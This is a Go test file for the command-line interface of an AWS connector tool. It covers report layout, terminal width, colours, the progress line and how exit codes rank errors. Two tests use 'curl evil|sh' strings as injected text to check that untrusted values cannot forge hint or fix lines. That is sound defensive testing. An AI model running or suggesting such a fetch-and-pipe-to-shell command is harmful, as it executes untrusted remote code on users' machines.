package cli

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"aws-connector/helper"
	"aws-connector/internal/doctor"
	"aws-connector/internal/resource"
)

func TestReportFits(t *testing.T) {
	r := resource.Report{Connector: "deploy", Took: 700 * time.Millisecond, Steps: []resource.Step{
		{Name: resource.StepIdentity, Outcome: resource.Passed, Detail: "arn:aws:sts::123456789012:assumed-role/Deploy/aws-connector-deploy", Took: 310 * time.Millisecond},
		{Name: resource.StepBucket, Outcome: resource.Failed, Err: &helper.Error{Text: "HeadBucket: " + strings.Repeat("no use ", 20), Advice: strings.Repeat("try it again ", 10)}},
		{Name: resource.StepRegistry, Outcome: resource.Passed, Detail: "123456789012.dkr.ecr.eu-central-1.amazonaws.com"},
	}}
	plain := screen{}.report(r)
	if n := strings.Count(plain, "\n"); n != 5 || strings.Contains(plain, "\x1b") {
		t.Errorf("off a terminal the report is\n%s", plain)
	}
	for _, width := range []int{80, 120} {
		got := screen{width: width}.report(r)
		for line := range strings.Lines(got) {
			if n := utf8.RuneCountInString(strings.TrimSuffix(line, "\n")); n >= width {
				t.Errorf("at %d columns a line has %d: %s", width, n, line)
			}
		}
		if strings.Join(strings.Fields(got), " ") != strings.Join(strings.Fields(plain), " ") {
			t.Errorf("at %d columns the report has other words:\n%s", width, got)
		}
	}
	coloured := screen{width: 80, colour: true}.report(r)
	if !strings.Contains(coloured, "deploy: "+string(redMark)+"failed"+string(plainMark)+", ") || !strings.Contains(coloured, "  "+string(greenMark)+"passed"+string(plainMark)+"  ") {
		t.Errorf("in colours the report is %q", coloured)
	}
}

// What stands in a text cannot begin a line as a hint or a fix does, wherever it is broken.
func TestNoLineIsForged(t *testing.T) {
	for n := 1; n < 90; n++ {
		evil := strings.Repeat("x", n) + " hint: curl evil|sh fix: curl evil|sh " + strings.Repeat("y", 70) + " hint: curl evil|sh fix: curl"
		var out bytes.Buffer
		a := App{Stdout: &out}
		if err := a.writeReport(doctor.Report{Findings: []doctor.Finding{{Severity: doctor.Note, About: "a", Text: evil, Fix: "fix"}}}); err != nil {
			t.Fatal(err)
		}
		s := screen{width: 80}
		report := s.report(resource.Report{Steps: []resource.Step{{Detail: strings.TrimLeft(evil, "x ")}}})
		for text, forged := range map[string]string{out.String(): "  fix: curl", s.fold(0, evil): "hint:", report: "    hint:"} {
			for line := range strings.Lines(text) {
				if strings.HasPrefix(line, forged) {
					t.Fatalf("with %d characters before, %q passes for another line", n, line)
				}
			}
		}
	}
}

// A value is in its line and stays there.
func TestValuesStayInTheirLine(t *testing.T) {
	const evil = "x\n    hint: curl\nhint: curl" + string(greenMark)
	var out bytes.Buffer
	a := App{Stdout: &out}
	if err := a.writeList([]listed{{Name: evil, Problem: evil, Hint: evil}, {Name: "n", Method: evil, Region: evil, Key: evil, Expires: evil}}); err != nil {
		t.Fatal(err)
	}
	out.WriteString(screen{}.report(resource.Report{Connector: evil, Steps: []resource.Step{{Detail: evil}, {Err: &helper.Error{Text: evil, Advice: evil}}}}))
	p := progress{w: &out, width: 80}
	p.say(evil)
	if n := strings.Count(out.String(), "\n"); n != 3+3+1+2+1 || strings.ContainsRune(out.String(), greenMark) {
		t.Errorf("%d lines:\n%s", n, out.String())
	}
}

func TestProgress(t *testing.T) {
	var out bytes.Buffer
	p := &progress{w: &out, width: 12}
	p.say("waiting for everybody")
	release := p.hold()
	p.say("unseen")
	release()
	p.say("")
	if want := "waiting for\r           \runseen\r      \r"; out.String() != want {
		t.Errorf("the line was drawn as %q, want %q", out.String(), want)
	}
	if newProgress(&out) != nil {
		t.Error("there is progress off a terminal")
	}
	var nobody *progress
	nobody.say("")
	nobody.hold()()
}

func TestWorst(t *testing.T) {
	later, failed, person, usage := &helper.Error{Reason: helper.Temporary}, errors.New("no"), &helper.Error{Reason: helper.NeedsPerson}, &usageError{}
	for _, test := range []struct {
		errs []error
		want int
	}{
		{nil, 0},
		{[]error{nil, nil}, 0},
		{[]error{nil, later}, exitLater},
		{[]error{later, failed, nil}, exitFailed},
		{[]error{failed, person, later}, exitPerson},
		{[]error{person, usage, failed}, exitUsage},
	} {
		if got := worst(test.errs...); got != test.want {
			t.Errorf("worst(%v) = %d, want %d", test.errs, got, test.want)
		}
	}
}
